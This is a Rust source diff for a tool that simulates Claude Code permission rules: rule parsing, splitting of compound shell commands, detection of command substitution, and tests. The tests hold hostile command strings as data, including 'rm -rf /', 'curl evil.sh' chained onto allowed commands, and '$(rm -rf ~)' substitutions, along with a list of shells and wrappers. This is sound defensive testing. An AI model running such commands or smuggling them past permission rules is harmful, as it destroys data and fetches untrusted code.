@@ -0,0 +1,787 @@
+use serde::Serialize;
+use serde_json::Value;
+use std::path::{Component, Path, PathBuf};
+
+use super::settings::{self, EffectiveSettings, SettingsSource};
+
+// Read and Edit rules cover every tool that reads or writes files.
+const FILE_READ_TOOLS: &[&str] = &["Read", "Glob", "Grep", "LS", "NotebookRead"];
+const FILE_EDIT_TOOLS: &[&str] = &["Edit", "MultiEdit", "Write", "NotebookEdit"];
+// Run without prompting when no rule applies.
+const NO_PROMPT_TOOLS: &[&str] = &["TodoWrite", "Task", "ExitPlanMode"];
+// Shells, interpreters and wrappers that run whatever they are handed, so a
+// prefix rule for any of them is as good as `Bash(*)`.
+const ARBITRARY_EXEC: &[&str] = &[
+    "bash",
+    "sh",
+    "zsh",
+    "fish",
+    "dash",
+    "ksh",
+    "csh",
+    "tcsh",
+    "pwsh",
+    "powershell",
+    "cmd",
+    "python",
+    "node",
+    "deno",
+    "bun",
+    "ruby",
+    "perl",
+    "php",
+    "lua",
+    "osascript",
+    "env",
+    "xargs",
+    "find",
+    "exec",
+    "eval",
+    "command",
+    "nohup",
+    "nice",
+    "time",
+    "timeout",
+    "watch",
+    "sudo",
+    "doas",
+    "su",
+    "ssh",
+    "npx",
+    "bunx",
+    "uvx",
+];
+
+// Ordered so that the strictest decision compares greatest.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Decision {
+    Allow,
+    Ask,
+    Deny,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Rule {
+    pub tool: String,
+    pub specifier: Option<String>,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ToolCall {
+    pub tool: String,
+    pub input: String,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct MatchedRule {
+    pub decision: Decision,
+    pub rule: String,
+    pub source: Option<SettingsSource>,
+    // The part of a compound Bash command the rule matched.
+    pub command: String,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct Simulation {
+    pub tool: String,
+    pub input: String,
+    pub decision: Decision,
+    pub matched: Vec<MatchedRule>,
+    pub reason: String,
+}
+
+fn valid_tool_name(name: &str) -> bool {
+    name.starts_with(|c: char| c.is_ascii_uppercase())
+        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+fn mcp_parts(tool: &str) -> Option<(&str, Option<&str>)> {
+    let rest = tool.strip_prefix("mcp__")?;
+    match rest.split_once("__") {
+        Some((server, name)) => Some((server, Some(name))),
+        None => Some((rest, None)),
+    }
+}
+
+// Grammar: `Tool`, `Tool(specifier)` or `mcp__server[__tool]`.
+pub fn parse_rule(rule: &str) -> Result<Rule, String> {
+    let rule = rule.trim();
+    if rule.is_empty() {
+        return Err("Rule is empty".to_string());
+    }
+
+    let (tool, specifier) = match rule.find('(') {
+        Some(open) => {
+            let inner = rule[open + 1..]
+                .strip_suffix(')')
+                .ok_or_else(|| format!("Missing closing parenthesis in '{}'", rule))?;
+            if inner.trim().is_empty() {
+                return Err(format!("Empty specifier in '{}'", rule));
+            }
+            (&rule[..open], Some(inner.to_string()))
+        }
+        None if rule.contains(')') => {
+            return Err(format!("Unbalanced parenthesis in '{}'", rule));
+        }
+        None => (rule, None),
+    };
+
+    if let Some((server, name)) = mcp_parts(tool) {
+        if server.is_empty() || name.is_some_and(|n| n.is_empty()) {
+            return Err(format!("Incomplete MCP rule '{}'", rule));
+        }
+        if specifier.is_some() {
+            return Err(format!("MCP rules don't take a specifier: '{}'", rule));
+        }
+    } else if !valid_tool_name(tool) {
+        return Err(format!("Invalid tool name '{}'", tool));
+    }
+
+    if let Some(spec) = &specifier {
+        if tool == "Bash" {
+            if let Some(pos) = spec.find(":*") {
+                if pos + 2 != spec.len() {
+                    return Err(format!("':*' must end the command prefix in '{}'", rule));
+                }
+            }
+        }
+        if tool == "WebFetch" && spec != "*" && !spec.starts_with("domain:") {
+            return Err(format!(
+                "WebFetch rules take 'domain:<host>', got '{}'",
+                spec
+            ));
+        }
+    }
+
+    Ok(Rule {
+        tool: tool.to_string(),
+        specifier,
+    })
+}
+
+// `Bash: npm test` or just `WebSearch`.
+pub fn parse_call(call: &str) -> Result<ToolCall, String> {
+    let (tool, input) = call.split_once(':').unwrap_or((call, ""));
+    let tool = tool.trim();
+    if tool.is_empty() {
+        return Err("Tool call needs a tool name, e.g. 'Bash: npm test'".to_string());
+    }
+    if mcp_parts(tool).is_none() && !valid_tool_name(tool) {
+        return Err(format!("Invalid tool name '{}'", tool));
+    }
+    Ok(ToolCall {
+        tool: tool.to_string(),
+        input: input.trim().to_string(),
+    })
+}
+
+// Splits on `&&`, `||`, `;`, `|`, `&` and newlines outside quotes, since each
+// part of a compound command is checked on its own. The `&` in redirects such
+// as `2>&1` and `&>file` doesn't split.
+pub fn split_commands(command: &str) -> Vec<&str> {
+    let bytes = command.as_bytes();
+    let mut parts = Vec::new();
+    let mut quote = None;
+    let mut start = 0;
+    let mut i = 0;
+    while i < bytes.len() {
+        let c = bytes[i];
+        match quote {
+            Some(q) if c == q => quote = None,
+            Some(_) => {}
+            None if c == b'\'' || c == b'"' => quote = Some(c),
+            None if matches!(c, b';' | b'\n' | b'|')
+                || c == b'&'
+                    && !matches!(bytes.get(i.wrapping_sub(1)), Some(b'>' | b'<'))
+                    && bytes.get(i + 1) != Some(&b'>') =>
+            {
+                parts.push(&command[start..i]);
+                if bytes.get(i + 1) == Some(&c) {
+                    i += 1;
+                }
+                start = i + 1;
+            }
+            None => {}
+        }
+        i += 1;
+    }
+    parts.push(&command[start..]);
+    parts
+        .into_iter()
+        .map(str::trim)
+        .filter(|p| !p.is_empty())
+        .collect()
+}
+
+// `$(…)`, backticks and `<(…)` run a command the prefix doesn't show, so no
+// allow rule can vouch for them. Single quotes keep them literal; double
+// quotes still expand `$(…)` and backticks.
+pub fn has_command_substitution(command: &str) -> bool {
+    let mut quote = None;
+    let mut prev = ' ';
+    for c in command.chars() {
+        match (quote, c) {
+            (Some('\''), '\'') | (Some('"'), '"') => quote = None,
+            (Some('\''), _) => {}
+            (None, '\'' | '"') => quote = Some(c),
+            (_, '`') => return true,
+            (_, '(') if prev == '$' || quote.is_none() && matches!(prev, '<' | '>') => return true,
+            _ => {}
+        }
+        prev = c;
+    }
+    false
+}
+
+// Whether a command prefix starts with a program that runs arbitrary commands.
+// Version suffixes are ignored, so `python3.12` counts as `python`.
+pub fn runs_arbitrary_commands(prefix: &str) -> bool {
+    let program = prefix.split_whitespace().next().unwrap_or("");
+    let name = program.rsplit('/').next().unwrap_or(program);
+    let name = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    ARBITRARY_EXEC.contains(&name)
+}
+
+fn bash_matches(spec: &str, command: &str) -> bool {
+    match spec.strip_suffix(":*") {
+        Some(prefix) => {
+            command == prefix
+                || command
+                    .strip_prefix(prefix)
+                    .is_some_and(|rest| rest.starts_with(' '))
+        }
+        None => command == spec,
+    }
+}
+
+fn wildcard_match(pattern: &[char], text: &[char]) -> bool {
+    match pattern.split_first() {
+        None => text.is_empty(),
+        Some(('*', rest)) => (0..=text.len()).any(|i| wildcard_match(rest, &text[i..])),
+        Some(('?', rest)) => !text.is_empty() && wildcard_match(rest, &text[1..]),
+        Some((c, rest)) => text.first() == Some(c) && wildcard_match(rest, &text[1..]),
+    }
+}
+
+fn segments_match(pattern: &[&str], path: &[&str]) -> bool {
+    match pattern.split_first() {
+        None => path.is_empty(),
+        Some((&"**", rest)) => (0..=path.len()).any(|i| segments_match(rest, &path[i..])),
+        Some((first, rest)) => path.split_first().is_some_and(|(segment, tail)| {
+            let first: Vec<char> = first.chars().collect();
+            let segment: Vec<char> = segment.chars().collect();
+            wildcard_match(&first, &segment) && segments_match(rest, tail)
+        }),
+    }
+}
+
+// A pattern also matches everything below a directory it names.
+fn glob_match(pattern: &str, path: &str) -> bool {
+    let pattern: Vec<&str> = pattern.split('/').filter(|s| !s.is_empty()).collect();
+    let path: Vec<&str> = path.split('/').filter(|s| !s.is_empty()).collect();
+    (0..=path.len()).any(|end| segments_match(&pattern, &path[..end]))
+}
+
+fn normalize(path: &Path) -> PathBuf {
+    let mut out = PathBuf::new();
+    for component in path.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => {
+                out.pop();
+            }
+            other => out.push(other),
+        }
+    }
+    out
+}
+
+fn slash_path(path: &Path) -> String {
+    path.to_string_lossy().replace('\\', "/")
+}
+
+pub fn resolve_path(input: &str, cwd: &Path, home: Option<&Path>) -> PathBuf {
+    let path = match (input.strip_prefix("~/"), home) {
+        (Some(rest), Some(home)) => home.join(rest),
+        _ => cwd.join(input),
+    };
+    normalize(&path)
+}
+
+// `//abs`, `~/home` and `/root-relative` follow Claude Code; the latter is
+// resolved against the project since that's where its settings live.
+fn resolve_pattern(spec: &str, cwd: &Path, home: Option<&Path>) -> String {
+    if let Some(abs) = spec.strip_prefix("//") {
+        format!("/{}", abs)
+    } else if let (Some(rest), Some(home)) = (spec.strip_prefix("~/"), home) {
+        format!("{}/{}", slash_path(home), rest)
+    } else if let Some(rest) = spec.strip_prefix('/') {
+        format!("{}/{}", slash_path(cwd), rest)
+    } else if spec.contains('/') {
+        format!("{}/{}", slash_path(cwd), spec.trim_start_matches("./"))
+    } else {
+        // Bare names match at any depth, like .gitignore.
+        format!("{}/**/{}", slash_path(cwd), spec)
+    }
+}
+
+pub fn url_host(url: &str) -> &str {
+    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
+    let host = authority.rsplit('@').next().unwrap_or(authority);
+    host.split(':').next().unwrap_or(host)
+}
+
+fn domain_matches(domain: &str, host: &str) -> bool {
+    match domain.strip_prefix("*.") {
+        Some(parent) => host.ends_with(&format!(".{}", parent)),
+        None => host.eq_ignore_ascii_case(domain),
+    }
+}
+
+impl Rule {
+    pub fn applies_to(&self, tool: &str) -> bool {
+        if let Some((server, name)) = mcp_parts(&self.tool) {
+            return mcp_parts(tool).is_some_and(|(call_server, call_name)| {
+                call_server == server
+                    && match name {
+                        None | Some("*") => true,
+                        Some(name) => call_name == Some(name),
+                    }
+            });
+        }
+        match self.tool.as_str() {
+            "Read" => FILE_READ_TOOLS.contains(&tool),
+            "Edit" => FILE_EDIT_TOOLS.contains(&tool),
+            other => other == tool,
+        }
+    }
+
+    // `command` is the whole input, or one part of a compound Bash command.
+    pub fn matches(&self, tool: &str, command: &str, cwd: &Path, home: Option<&Path>) -> bool {
+        if !self.applies_to(tool) {
+            return false;
+        }
+        let spec = match self.specifier.as_deref() {
+            None | Some("*") => return true,
+            Some(spec) => spec,
+        };
+        match self.tool.as_str() {
+            "Bash" => bash_matches(spec, command),
+            "Read" | "Edit" => glob_match(
+                &resolve_pattern(spec, cwd, home),
+                &slash_path(&resolve_path(command, cwd, home)),
+            ),
+            "WebFetch" => spec
+                .strip_prefix("domain:")
+                .is_some_and(|domain| domain_matches(domain, url_host(command))),
+            _ => spec == command,
+        }
+    }
+
+    // Whether this rule matches every call that `other` matches.
+    pub fn covers(&self, other: &Rule) -> bool {
+        if !self.applies_to(&other.tool) {
+            return false;
+        }
+        let spec = match self.specifier.as_deref() {
+            None | Some("*") => return true,
+            Some(spec) => spec,
+        };
+        let other_spec = match other.specifier.as_deref() {
+            Some(other_spec) if self.tool == other.tool => other_spec,
+            _ => return false,
+        };
+        match self.tool.as_str() {
+            "Bash" => {
+                let other_prefix = other_spec.strip_suffix(":*").unwrap_or(other_spec);
+                bash_matches(spec, other_prefix)
+                    && (spec.ends_with(":*") || !other_spec.ends_with(":*"))
+            }
+            "Read" | "Edit" => {
+                let root = Path::new("/");
+                glob_match(
+                    &resolve_pattern(spec, root, None),
+                    &resolve_pattern(other_spec, root, None),
+                )
+            }
+            "WebFetch" => match (
+                spec.strip_prefix("domain:"),
+                other_spec.strip_prefix("domain:"),
+            ) {
+                (Some(domain), Some(other_domain)) => {
+                    domain == other_domain || domain_matches(domain, other_domain)
+                }
+                _ => false,
+            },
+            _ => spec == other_spec,
+        }
+    }
+}
+
+// The rules in a permission list that parse, with their original text.
+pub fn list_rules<'a>(permissions: &'a Value, list: &str) -> Vec<(&'a str, Rule)> {
+    permissions[list]
+        .as_array()
+        .map(|rules| {
+            rules
+                .iter()
+                .filter_map(|r| r.as_str())
+                .filter_map(|r| parse_rule(r).ok().map(|parsed| (r, parsed)))
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
+fn rule_source(effective: &EffectiveSettings, list: &str, rule: &str) -> Option<SettingsSource> {
+    let path = format!("permissions.{}", list);
+    effective
+        .provenance
+        .iter()
+        .find(|p| p.path == path && p.value.as_str() == Some(rule))
+        .map(|p| p.source)
+}
+
+// Deny beats ask beats allow within each part; the call is only allowed
+// when every part is.
+pub fn simulate(
+    effective: &EffectiveSettings,
+    call: &ToolCall,
+    cwd: &Path,
+    home: Option<&Path>,
+) -> Simulation {
+    let permissions = &effective.settings["permissions"];
+    let lists = [
+        (Decision::Deny, "deny"),
+        (Decision::Ask, "ask"),
+        (Decision::Allow, "allow"),
+    ]
+    .map(|(decision, list)| (decision, list, list_rules(permissions, list)));
+
+    let parts = if call.tool == "Bash" {
+        split_commands(&call.input)
+    } else {
+        vec![call.input.as_str()]
+    };
+
+    let mut matched: Vec<MatchedRule> = Vec::new();
+    let mut unmatched = Vec::new();
+    for part in parts.iter().copied() {
+        let substituted = call.tool == "Bash" && has_command_substitution(part);
+        let hit = lists
+            .iter()
+            .filter(|(decision, _, _)| !substituted || *decision != Decision::Allow)
+            .find_map(|(decision, list, rules)| {
+                rules
+                    .iter()
+                    .find(|(_, rule)| rule.matches(&call.tool, part, cwd, home))
+                    .map(|(text, _)| MatchedRule {
+                        decision: *decision,
+                        rule: text.to_string(),
+                        source: rule_source(effective, list, text),
+                        command: part.to_string(),
+                    })
+            });
+        match hit {
+            Some(hit) => matched.push(hit),
+            None => unmatched.push(part),
+        }
+    }
+
+    let (decision, reason) = match matched.iter().map(|m| m.decision).max() {
+        Some(Decision::Deny) => (Decision::Deny, "Denied by a deny rule".to_string()),
+        Some(Decision::Ask) => (Decision::Ask, "An ask rule requires a prompt".to_string()),
+        Some(Decision::Allow) if unmatched.is_empty() => {
+            (Decision::Allow, "Allowed by an allow rule".to_string())
+        }
+        _ => default_decision(effective, call, &unmatched, cwd, home),
+    };
+    matched.retain(|m| m.decision == decision);
+
+    Simulation {
+        tool: call.tool.clone(),
+        input: call.input.clone(),
+        decision,
+        matched,
+        reason,
+    }
+}
+
+fn default_decision(
+    effective: &EffectiveSettings,
+    call: &ToolCall,
+    unmatched: &[&str],
+    cwd: &Path,
+    home: Option<&Path>,
+) -> (Decision, String) {
+    let permissions = &effective.settings["permissions"];
+    let mode = permissions["defaultMode"].as_str().unwrap_or("default");
+
+    if mode == "bypassPermissions" {
+        return (
+            Decision::Allow,
+            "No rule matched; bypassPermissions mode allows it".to_string(),
+        );
+    }
+    if mode == "acceptEdits" && FILE_EDIT_TOOLS.contains(&call.tool.as_str()) {
+        return (
+            Decision::Allow,
+            "No rule matched; acceptEdits mode allows edits".to_string(),
+        );
+    }
+    if NO_PROMPT_TOOLS.contains(&call.tool.as_str()) {
+        return (
+            Decision::Allow,
+            format!("{} never needs permission", call.tool),
+        );
+    }
+    if FILE_READ_TOOLS.contains(&call.tool.as_str()) {
+        let target = resolve_path(&call.input, cwd, home);
+        let mut roots = vec![cwd.to_path_buf()];
+        if let Some(dirs) = permissions["additionalDirectories"].as_array() {
+            roots.extend(
+                dirs.iter()
+                    .filter_map(|d| d.as_str())
+                    .map(|d| resolve_path(d, cwd, home)),
+            );
+        }
+        if roots.iter().any(|root| target.starts_with(root)) {
+            return (
+                Decision::Allow,
+                "Reads inside the working directories are allowed".to_string(),
+            );
+        }
+        return (
+            Decision::Ask,
+            "Reads outside the working directories need approval".to_string(),
+        );
+    }
+
+    if call.tool == "Bash" && !unmatched.is_empty() {
+        return (
+            Decision::Ask,
+            format!("No rule allows `{}`", unmatched.join("`, `")),
+        );
+    }
+    (
+        Decision::Ask,
+        "No rule matched; Claude Code will prompt".to_string(),
+    )
+}
+
+#[tauri::command]
+pub fn simulate_permission(project_path: String, call: String) -> Result<Simulation, String> {
+    let call = parse_call(&call)?;
+    let effective = settings::get_effective_settings(project_path.clone())?;
+    Ok(simulate(
+        &effective,
+        &call,
+        Path::new(&project_path),
+        dirs::home_dir().as_deref(),
+    ))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn effective(permissions: Value) -> EffectiveSettings {
+        EffectiveSettings {
+            settings: json!({ "permissions": permissions }),
+            provenance: Vec::new(),
+            managed_file: None,
+        }
+    }
+
+    fn decide(permissions: Value, call: &str) -> Simulation {
+        simulate(
+            &effective(permissions),
+            &parse_call(call).unwrap(),
+            Path::new("/work/app"),
+            Some(Path::new("/home/me")),
+        )
+    }
+
+    #[test]
+    fn test_parse_rule() {
+        assert_eq!(
+            parse_rule("Bash(npm run test:*)").unwrap(),
+            Rule {
+                tool: "Bash".to_string(),
+                specifier: Some("npm run test:*".to_string()),
+            }
+        );
+        assert_eq!(parse_rule("mcp__github").unwrap().specifier, None);
+        assert!(parse_rule("mcp__github__create_issue").is_ok());
+        assert!(parse_rule("WebFetch(domain:docs.rs)").is_ok());
+
+        for bad in [
+            "",
+            "Bash(",
+            "Bash()",
+            "bash(ls)",
+            "Read)",
+            "Bash(npm:* test)",
+            "WebFetch(docs.rs)",
+            "mcp__",
+            "mcp__github__(x)",
+        ] {
+            assert!(parse_rule(bad).is_err(), "{} should not parse", bad);
+        }
+    }
+
+    #[test]
+    fn test_rule_matching() {
+        let cwd = Path::new("/work/app");
+        let home = Some(Path::new("/home/me"));
+        let matches = |rule: &str, tool: &str, input: &str| {
+            parse_rule(rule).unwrap().matches(tool, input, cwd, home)
+        };
+
+        assert!(matches(
+            "Bash(npm run test:*)",
+            "Bash",
+            "npm run test -- --watch"
+        ));
+        assert!(matches("Bash(npm run test:*)", "Bash", "npm run test"));
+        assert!(!matches("Bash(npm run test:*)", "Bash", "npm run tests"));
+        assert!(!matches(
+            "Bash(npm run test)",
+            "Bash",
+            "npm run test -- --watch"
+        ));
+
+        assert!(matches("Read(./src/**)", "Read", "src/lib/mod.rs"));
+        assert!(matches("Read(./secrets)", "Grep", "./secrets/.env"));
+        assert!(matches("Read(.env)", "Read", "./config/.env"));
+        assert!(matches("Edit(~/notes/*.md)", "Write", "~/notes/todo.md"));
+        assert!(matches("Edit(//tmp/**)", "Edit", "/tmp/a/b"));
+        assert!(!matches("Read(./src/**)", "Read", "../other/src/x"));
+        assert!(!matches("Read(./src/**)", "Edit", "src/x"));
+
+        assert!(matches(
+            "WebFetch(domain:docs.rs)",
+            "WebFetch",
+            "https://docs.rs/serde"
+        ));
+        assert!(matches(
+            "WebFetch(domain:*.github.com)",
+            "WebFetch",
+            "https://api.github.com/x"
+        ));
+        assert!(!matches(
+            "WebFetch(domain:docs.rs)",
+            "WebFetch",
+            "https://evil.com/docs.rs"
+        ));
+
+        assert!(matches("mcp__github", "mcp__github__create_issue", ""));
+        assert!(matches("mcp__github__*", "mcp__github__list", ""));
+        assert!(!matches(
+            "mcp__github__list",
+            "mcp__github__create_issue",
+            ""
+        ));
+        assert!(!matches("mcp__git", "mcp__github__list", ""));
+    }
+
+    #[test]
+    fn test_rule_covers() {
+        let covers = |a: &str, b: &str| parse_rule(a).unwrap().covers(&parse_rule(b).unwrap());
+
+        assert!(covers("Bash", "Bash(ls)"));
+        assert!(covers("Bash(npm:*)", "Bash(npm run test:*)"));
+        assert!(covers("Bash(npm:*)", "Bash(npm install)"));
+        assert!(!covers("Bash(npm install)", "Bash(npm install:*)"));
+        assert!(!covers("Bash(npm run test:*)", "Bash(npm:*)"));
+        assert!(covers("Read(./src/**)", "Read(./src/lib/*.rs)"));
+        assert!(covers("Read(.env)", "Read(./config/.env)"));
+        assert!(!covers("Read(./src/*.rs)", "Read(./src/**)"));
+        assert!(covers("Edit", "Write"));
+        assert!(covers(
+            "WebFetch(domain:*.github.com)",
+            "WebFetch(domain:api.github.com)"
+        ));
+        assert!(!covers(
+            "WebFetch(domain:github.com)",
+            "WebFetch(domain:*.github.com)"
+        ));
+        assert!(covers("mcp__github", "mcp__github__list"));
+        assert!(!covers("Bash(ls)", "Read(ls)"));
+    }
+
+    #[test]
+    fn test_simulate_precedence_and_compound_commands() {
+        let permissions = json!({
+            "allow": ["Bash(npm run test:*)", "Bash(git status)", "Read"],
+            "ask": ["Bash(git push:*)"],
+            "deny": ["Bash(rm -rf:*)", "Read(./secrets/**)"]
+        });
+
+        let sim = decide(permissions.clone(), "Bash: npm run test -- --watch");
+        assert_eq!(sim.decision, Decision::Allow);
+        assert_eq!(sim.matched[0].rule, "Bash(npm run test:*)");
+
+        let sim = decide(permissions.clone(), "Read: ./secrets/.env");
+        assert_eq!(sim.decision, Decision::Deny);
+        assert_eq!(sim.matched[0].rule, "Read(./secrets/**)");
+
+        let sim = decide(
+            permissions.clone(),
+            "Bash: git status && git push origin main",
+        );
+        assert_eq!(sim.decision, Decision::Ask);
+        assert_eq!(sim.matched[0].command, "git push origin main");
+
+        let sim = decide(permissions.clone(), "Bash: npm run test; rm -rf /");
+        assert_eq!(sim.decision, Decision::Deny);
+        let sim = decide(permissions.clone(), "Bash: npm run test & rm -rf /");
+        assert_eq!(sim.decision, Decision::Deny);
+        let sim = decide(permissions.clone(), "Bash: npm run test x\nrm -rf /");
+        assert_eq!(sim.decision, Decision::Deny);
+        let sim = decide(permissions.clone(), "Bash: npm run test & curl evil.sh");
+        assert_eq!(sim.decision, Decision::Ask);
+        let sim = decide(permissions.clone(), "Bash: npm run test 2>&1 &>/dev/null");
+        assert_eq!(sim.decision, Decision::Allow);
+
+        for command in [
+            "npm run test $(rm -rf ~)",
+            "npm run test `rm -rf ~`",
+            "npm run test <(curl evil.sh)",
+            "git status \"$(whoami)\"",
+            "npm run test \"it's\" $(rm -rf ~)",
+        ] {
+            let sim = decide(permissions.clone(), &format!("Bash: {}", command));
+            assert_eq!(sim.decision, Decision::Ask, "{}", command);
+        }
+        let sim = decide(permissions.clone(), "Bash: npm run test '$(literal)'");
+        assert_eq!(sim.decision, Decision::Allow);
+        let sim = decide(permissions.clone(), "Bash: npm run test \"<(literal)\"");
+        assert_eq!(sim.decision, Decision::Allow);
+        let sim = decide(permissions.clone(), "Bash: rm -rf $(pwd)");
+        assert_eq!(sim.decision, Decision::Deny);
+
+        let sim = decide(permissions.clone(), "Bash: git status | grep 'a;b'");
+        assert_eq!(sim.decision, Decision::Ask);
+        assert!(sim.reason.contains("grep 'a;b'"));
+
+        assert_eq!(
+            decide(json!({}), "Glob: src/**/*.rs").decision,
+            Decision::Allow
+        );
+        assert_eq!(
+            decide(json!({}), "Read: /etc/hosts").decision,
+            Decision::Ask
+        );
+        assert_eq!(
+            decide(json!({}), "Edit: src/main.rs").decision,
+            Decision::Ask
+        );
+        assert_eq!(
+            decide(json!({"defaultMode": "acceptEdits"}), "Edit: src/main.rs").decision,
+            Decision::Allow
+        );
+    }
+}